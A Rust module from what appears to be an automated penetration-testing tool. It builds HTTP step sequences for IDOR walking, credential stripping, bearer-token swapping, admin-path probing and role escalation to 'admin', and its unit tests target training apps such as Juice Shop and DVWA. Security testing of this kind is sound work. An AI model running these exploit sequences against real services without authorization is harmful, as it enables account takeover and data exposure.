//! Deterministic exploit step generators, one per named exploit strategy.
//!
//! Each generator is a pure function from `(target_path, evidence, profile)`
//! to an ordered CAMRO step sequence. A login prelude appropriate to the
//! profile's auth mechanism is prepended where the exploit needs an
//! authenticated session: 2 steps for bearer targets (login + token
//! extraction), 1 for plain session cookies, 3 when a CSRF token must be
//! fetched first.

use serde_json::{json, Map, Value};

use crate::error::{Error, Result};
use crate::models::plan::ExploitKind;
use crate::models::step::{Step, StepPhase, StepType};

use super::profiles::{AuthMechanism, TargetProfile};

/// Generate the step sequence for an exploit against a concrete target path.
pub fn generate(
    kind: ExploitKind,
    target_path: &str,
    evidence: &str,
    profile: &TargetProfile,
) -> Result<Vec<Step>> {
    match kind {
        ExploitKind::IdorWalk => Ok(idor_walk_steps(target_path, evidence, profile)),
        ExploitKind::AuthStrip => Ok(auth_strip_steps(target_path, evidence, profile)),
        ExploitKind::TokenSwap => token_swap_steps(target_path, evidence, profile),
        ExploitKind::NamespaceProbe => Ok(namespace_probe_steps(target_path, evidence)),
        ExploitKind::RoleTamper => Ok(role_tamper_steps(target_path, evidence, profile)),
    }
}

/// Number of login-prelude steps for this profile.
pub fn auth_offset(profile: &TargetProfile) -> u32 {
    match profile.auth_mechanism {
        AuthMechanism::BearerToken => 2,
        AuthMechanism::SessionCookie if profile.csrf_token_pattern.is_some() => 3,
        AuthMechanism::SessionCookie => 1,
    }
}

/// Which credential pair a login prelude uses.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum UserSlot {
    A,
    B,
}

/// Login steps for one user, starting at `start_order`.
///
/// Bearer targets get a token-extraction step whose stdout later steps
/// reference via `{{previous_outputs[N]}}`.
pub fn login_steps(profile: &TargetProfile, user: UserSlot, start_order: u32) -> Vec<Step> {
    let creds = match user {
        UserSlot::A => &profile.user_a,
        UserSlot::B => &profile.user_b,
    };
    let (user_field, pass_field) = &profile.login_body_fields;
    let user_label = match user {
        UserSlot::A => "user A",
        UserSlot::B => "user B",
    };

    let mut login_body = Map::new();
    login_body.insert(user_field.clone(), json!(creds.username));
    login_body.insert(pass_field.clone(), json!(creds.password));

    match profile.auth_mechanism {
        AuthMechanism::BearerToken => {
            let pattern = profile
                .token_extraction_pattern
                .clone()
                .unwrap_or_else(|| r#""token"\s*:\s*"([^"]+)""#.to_string());
            vec![
                Step::new(
                    start_order,
                    StepPhase::Capture,
                    StepType::HttpRequest,
                    format!("log in as {}", user_label),
                )
                .with_param("method", "POST")
                .with_param("url", profile.login_path.clone())
                .with_param("headers", json!({"Content-Type": "application/json"}))
                .with_param("body", Value::Object(login_body)),
                Step::new(
                    start_order + 1,
                    StepPhase::Analyze,
                    StepType::RegexMatch,
                    format!("extract bearer token for {}", user_label),
                )
                .with_param("pattern", pattern)
                .with_param("source", "last")
                .with_param("capture_group", 1),
            ]
        }
        AuthMechanism::SessionCookie => match &profile.csrf_token_pattern {
            Some(csrf_pattern) => {
                login_body.insert(
                    "user_token".to_string(),
                    json!(previous_output_ref(start_order + 1)),
                );
                vec![
                    Step::new(
                        start_order,
                        StepPhase::Capture,
                        StepType::HttpRequest,
                        "fetch login page",
                    )
                    .with_param("method", "GET")
                    .with_param("url", profile.login_path.clone()),
                    Step::new(
                        start_order + 1,
                        StepPhase::Analyze,
                        StepType::RegexMatch,
                        "extract CSRF token",
                    )
                    .with_param("pattern", csrf_pattern.clone())
                    .with_param("source", "last")
                    .with_param("capture_group", 1),
                    Step::new(
                        start_order + 2,
                        StepPhase::Capture,
                        StepType::HttpRequest,
                        format!("log in as {}", user_label),
                    )
                    .with_param("method", "POST")
                    .with_param("url", profile.login_path.clone())
                    .with_param("body", Value::Object(login_body)),
                ]
            }
            None => vec![Step::new(
                start_order,
                StepPhase::Capture,
                StepType::HttpRequest,
                format!("log in as {}", user_label),
            )
            .with_param("method", "POST")
            .with_param("url", profile.login_path.clone())
            .with_param("headers", json!({"Content-Type": "application/json"}))
            .with_param("body", Value::Object(login_body))],
        },
    }
}

/// Walk an adjacent resource ID, then replay the original, as user A.
pub fn idor_walk_steps(target: &str, evidence: &str, profile: &TargetProfile) -> Vec<Step> {
    let mut steps = login_steps(profile, UserSlot::A, 1);
    let k = auth_offset(profile);
    let auth = auth_headers(profile, k);
    let criterion = id_criterion(target);

    steps.push(http_get(k + 1, StepPhase::Mutate, &neighbor_path(target), auth.clone()));
    steps.push(http_get(k + 2, StepPhase::Replay, target, auth));
    steps.push(observe_step(k + 3, &criterion, evidence));
    steps
}

/// Request the target with and without credentials.
pub fn auth_strip_steps(target: &str, evidence: &str, profile: &TargetProfile) -> Vec<Step> {
    let mut steps = login_steps(profile, UserSlot::A, 1);
    let k = auth_offset(profile);
    let auth = auth_headers(profile, k);
    let criterion = id_criterion(target);

    steps.push(http_get(k + 1, StepPhase::Capture, target, auth));
    steps.push(
        http_get(k + 2, StepPhase::Mutate, target, Map::new()).with_param("skip_cookies", true),
    );
    steps.push(observe_step(k + 3, &criterion, evidence));
    steps
}

/// Access user A's resource with user B's token. Bearer targets only.
pub fn token_swap_steps(
    target: &str,
    evidence: &str,
    profile: &TargetProfile,
) -> Result<Vec<Step>> {
    if profile.auth_mechanism != AuthMechanism::BearerToken {
        return Err(Error::ProfileMismatch {
            exploit: "token_swap".into(),
            required: "bearer_token".into(),
            actual: profile.auth_mechanism.to_string(),
        });
    }

    let mut steps = login_steps(profile, UserSlot::A, 1);
    steps.extend(login_steps(profile, UserSlot::B, 3));
    let token_a = bearer_headers(2);
    let token_b = bearer_headers(4);
    let criterion = id_criterion(target);

    steps.push(http_get(5, StepPhase::Mutate, target, token_a));
    steps.push(http_get(6, StepPhase::Replay, target, token_b));
    steps.push(observe_step(7, &criterion, evidence));
    Ok(steps)
}

/// Probe an admin/internal path without any credentials.
pub fn namespace_probe_steps(target: &str, evidence: &str) -> Vec<Step> {
    // Classic path-normalization bypass: same resource, variant spelling.
    let trailing_slash_variant = if target.ends_with('/') {
        format!("{}//", target.trim_end_matches('/'))
    } else {
        format!("{}/", target)
    };

    vec![
        http_get(1, StepPhase::Capture, "/", Map::new()).with_param("skip_cookies", true),
        Step::new(
            2,
            StepPhase::Analyze,
            StepType::RegexMatch,
            "scan for namespace hints",
        )
        .with_param("pattern", r"(?i)(admin|internal|staff|debug)")
        .with_param("source", "last")
        .with_param("capture_group", 0),
        http_get(3, StepPhase::Mutate, target, Map::new()).with_param("skip_cookies", true),
        http_get(4, StepPhase::Replay, &trailing_slash_variant, Map::new())
            .with_param("skip_cookies", true),
        observe_step(5, r#"(?i)"(id|email|token|users|role)""#, evidence),
    ]
}

/// Escalate privileges by tampering a role field in the request body.
pub fn role_tamper_steps(target: &str, evidence: &str, profile: &TargetProfile) -> Vec<Step> {
    let mut steps = login_steps(profile, UserSlot::A, 1);
    let k = auth_offset(profile);
    let auth = auth_headers(profile, k);

    steps.push(http_get(k + 1, StepPhase::Capture, target, auth.clone()));
    steps.push(
        Step::new(
            k + 2,
            StepPhase::Analyze,
            StepType::RegexMatch,
            "extract current role",
        )
        .with_param("pattern", r#""role"\s*:\s*"([^"]+)""#)
        .with_param("source", "last")
        .with_param("capture_group", 1),
    );

    let mut mutate_headers = auth.clone();
    mutate_headers.insert("Content-Type".to_string(), json!("application/json"));
    steps.push(
        Step::new(
            k + 3,
            StepPhase::Mutate,
            StepType::HttpRequest,
            format!("PUT {} with elevated role", target),
        )
        .with_param("method", "PUT")
        .with_param("url", target)
        .with_param("headers", Value::Object(mutate_headers))
        .with_param("body", json!({"role": "admin"})),
    );
    steps.push(http_get(k + 4, StepPhase::Replay, target, auth));
    steps.push(observe_step(k + 5, r#""role"\s*:\s*"admin""#, evidence));
    steps
}

// ---- helpers ----

fn previous_output_ref(order: u32) -> String {
    format!("{{{{previous_outputs[{}]}}}}", order)
}

fn bearer_headers(token_order: u32) -> Map<String, Value> {
    let mut headers = Map::new();
    headers.insert(
        "Authorization".to_string(),
        json!(format!("Bearer {}", previous_output_ref(token_order))),
    );
    headers
}

/// Request headers carrying the session for this profile. Cookie-based
/// targets authenticate through the context's cookie jar instead.
fn auth_headers(profile: &TargetProfile, auth_offset: u32) -> Map<String, Value> {
    match profile.auth_mechanism {
        AuthMechanism::BearerToken => bearer_headers(auth_offset),
        AuthMechanism::SessionCookie => Map::new(),
    }
}

fn http_get(order: u32, phase: StepPhase, url: &str, headers: Map<String, Value>) -> Step {
    let mut step = Step::new(order, phase, StepType::HttpRequest, format!("GET {}", url))
        .with_param("method", "GET")
        .with_param("url", url);
    if !headers.is_empty() {
        step = step.with_param("headers", Value::Object(headers));
    }
    step
}

fn observe_step(order: u32, criterion: &str, evidence: &str) -> Step {
    let mut note = evidence.trim().to_string();
    if note.len() > 120 {
        let mut cut = 120;
        while !note.is_char_boundary(cut) {
            cut -= 1;
        }
        note.truncate(cut);
    }
    Step::new(
        order,
        StepPhase::Observe,
        StepType::RegexMatch,
        format!("confirm: {}", note),
    )
    .with_param("pattern", criterion)
    .with_param("source", "last")
    .with_param("capture_group", 0)
    .with_success_criteria(criterion)
}

/// Success criterion matching the target's trailing resource ID, falling
/// back to any numeric id field.
fn id_criterion(target: &str) -> String {
    match trailing_id(target) {
        Some(id) => format!(r#""id"\s*:\s*{}"#, id),
        None => r#""id"\s*:\s*\d+"#.to_string(),
    }
}

/// The same path with its trailing numeric ID incremented.
fn neighbor_path(target: &str) -> String {
    match split_trailing_id(target) {
        Some((prefix, id)) => format!("{}{}", prefix, id + 1),
        None => format!("{}/2", target.trim_end_matches('/')),
    }
}

fn trailing_id(target: &str) -> Option<u64> {
    split_trailing_id(target).map(|(_, id)| id)
}

fn split_trailing_id(target: &str) -> Option<(&str, u64)> {
    let digit_count = target
        .chars()
        .rev()
        .take_while(|c| c.is_ascii_digit())
        .count();
    if digit_count == 0 {
        return None;
    }
    let digits_start = target.len() - digit_count;
    target[digits_start..]
        .parse()
        .ok()
        .map(|id| (&target[..digits_start], id))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::exploits::profiles::get_profile;
    use pretty_assertions::assert_eq;

    fn juice() -> &'static TargetProfile {
        get_profile(Some("juice_shop")).unwrap()
    }

    fn nodegoat() -> &'static TargetProfile {
        get_profile(Some("nodegoat")).unwrap()
    }

    fn dvwa() -> &'static TargetProfile {
        get_profile(Some("dvwa")).unwrap()
    }

    #[test]
    fn test_auth_offset_per_mechanism() {
        assert_eq!(auth_offset(juice()), 2);
        assert_eq!(auth_offset(nodegoat()), 1);
        assert_eq!(auth_offset(dvwa()), 3);
    }

    #[test]
    fn test_login_steps_counts() {
        assert_eq!(login_steps(juice(), UserSlot::A, 1).len(), 2);
        assert_eq!(login_steps(nodegoat(), UserSlot::A, 1).len(), 1);
        assert_eq!(login_steps(dvwa(), UserSlot::A, 1).len(), 3);
    }

    #[test]
    fn test_idor_walk_bearer_produces_5_steps() {
        let steps = idor_walk_steps("/api/Users/1", "test", juice());
        assert_eq!(steps.len(), 5);
        let orders: Vec<u32> = steps.iter().map(|s| s.order).collect();
        assert_eq!(orders, vec![1, 2, 3, 4, 5]);
    }

    #[test]
    fn test_idor_walk_cookie_produces_4_steps() {
        assert_eq!(idor_walk_steps("/allocations/1", "test", nodegoat()).len(), 4);
    }

    #[test]
    fn test_idor_walk_csrf_produces_6_steps() {
        assert_eq!(idor_walk_steps("/vuln/1", "test", dvwa()).len(), 6);
    }

    #[test]
    fn test_idor_walk_phases_form_camro() {
        let phases: Vec<StepPhase> = idor_walk_steps("/api/Users/1", "test", juice())
            .iter()
            .map(|s| s.phase)
            .collect();
        assert_eq!(
            phases,
            vec![
                StepPhase::Capture,
                StepPhase::Analyze,
                StepPhase::Mutate,
                StepPhase::Replay,
                StepPhase::Observe,
            ]
        );
    }

    #[test]
    fn test_idor_walk_walks_neighbor_then_replays_target() {
        let steps = idor_walk_steps("/api/Users/1", "test", juice());
        assert_eq!(steps[2].parameters["url"], "/api/Users/2");
        assert_eq!(steps[3].parameters["url"], "/api/Users/1");
        assert_eq!(
            steps[4].success_criteria.as_deref(),
            Some(r#""id"\s*:\s*1"#)
        );
    }

    #[test]
    fn test_bearer_steps_reference_extracted_token() {
        let steps = idor_walk_steps("/api/Users/1", "test", juice());
        let headers = steps[2].parameters["headers"].as_object().unwrap();
        assert_eq!(
            headers["Authorization"],
            "Bearer {{previous_outputs[2]}}"
        );
    }

    #[test]
    fn test_cookie_steps_lack_authorization_header() {
        for step in idor_walk_steps("/allocations/1", "test", nodegoat()) {
            if let Some(headers) = step.parameters.get("headers").and_then(|h| h.as_object()) {
                assert!(!headers.contains_key("Authorization"));
            }
        }
    }

    #[test]
    fn test_token_swap_errors_for_cookie_auth() {
        let err = token_swap_steps("/allocations/1", "test", nodegoat()).unwrap_err();
        assert!(err.to_string().contains("bearer_token"));
    }

    #[test]
    fn test_token_swap_uses_both_tokens() {
        let steps = token_swap_steps("/api/Users/1", "test", juice()).unwrap();
        assert_eq!(steps.len(), 7);
        let header_at = |i: usize| {
            steps[i].parameters["headers"]["Authorization"]
                .as_str()
                .unwrap()
                .to_string()
        };
        assert_eq!(header_at(4), "Bearer {{previous_outputs[2]}}");
        assert_eq!(header_at(5), "Bearer {{previous_outputs[4]}}");
    }

    #[test]
    fn test_auth_strip_has_exactly_one_skip_cookies_step() {
        let steps = auth_strip_steps("/allocations/1", "test", nodegoat());
        let stripped: Vec<&Step> = steps
            .iter()
            .filter(|s| s.parameters.contains_key("skip_cookies"))
            .collect();
        assert_eq!(stripped.len(), 1);
        assert_eq!(stripped[0].parameters["skip_cookies"], true);
    }

    #[test]
    fn test_namespace_probe_is_unauthenticated() {
        let steps = namespace_probe_steps("/api/admin", "test");
        assert_eq!(steps.len(), 5);
        for step in &steps {
            if step.step_type == StepType::HttpRequest {
                assert_eq!(step.parameters["skip_cookies"], true);
                assert!(!step.parameters.contains_key("headers"));
            }
        }
    }

    #[test]
    fn test_role_tamper_mutates_then_observes_admin() {
        let steps = role_tamper_steps("/api/Users/1", "role field seen in body", juice());
        assert_eq!(steps.len(), 7);
        let mutate = &steps[4];
        assert_eq!(mutate.parameters["method"], "PUT");
        assert_eq!(mutate.parameters["body"]["role"], "admin");
        assert_eq!(
            steps[6].success_criteria.as_deref(),
            Some(r#""role"\s*:\s*"admin""#)
        );
    }

    #[test]
    fn test_generators_are_pure() {
        for kind in ExploitKind::ALL {
            let a = generate(kind, "/api/Users/1", "evidence", juice());
            let b = generate(kind, "/api/Users/1", "evidence", juice());
            match (a, b) {
                (Ok(a), Ok(b)) => assert_eq!(a, b),
                (Err(_), Err(_)) => {}
                other => panic!("purity mismatch for {}: {:?}", kind, other.0.is_ok()),
            }
        }
    }

    #[test]
    fn test_neighbor_path_without_trailing_id() {
        assert_eq!(neighbor_path("/api/Users"), "/api/Users/2");
        assert_eq!(neighbor_path("/api/Users/7"), "/api/Users/8");
    }
}
